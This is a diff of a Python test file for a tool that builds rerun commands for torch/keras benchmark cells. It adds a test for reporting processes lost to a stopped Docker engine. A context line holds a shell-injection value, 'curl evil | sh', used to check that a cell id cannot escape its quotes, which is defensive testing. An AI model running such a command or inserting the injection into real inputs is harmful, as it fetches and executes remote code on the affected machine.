@@ -199,3 +199,11 @@ def test_the_command_runs_one_cell_again(quick: Report) -> None:
 def test_a_hostile_cell_id_cannot_leave_its_quotes(quick: Report) -> None:
     hostile = replace(NEW, version="1'; curl evil | sh; '")
     assert "--only 'torch-1'\"'\"'; curl evil | sh; '\"'\"'_keras" in command(hostile, quick)
+
+
+def test_processes_that_this_machine_lost_are_told_beside_those_that_ran() -> None:
+    (ran, *_) = two_cells().samples
+    lost = replace(ran, round=1, status=Status.UNAVAILABLE, reason="the Docker engine stopped answering", metrics=())
+    assert not_measured(Report((ran, lost), ())) == (
+        "torch 2.2.2 with keras 3.11.3: unavailable: mnist: 1 of 2 processes: the Docker engine stopped answering",
+    )
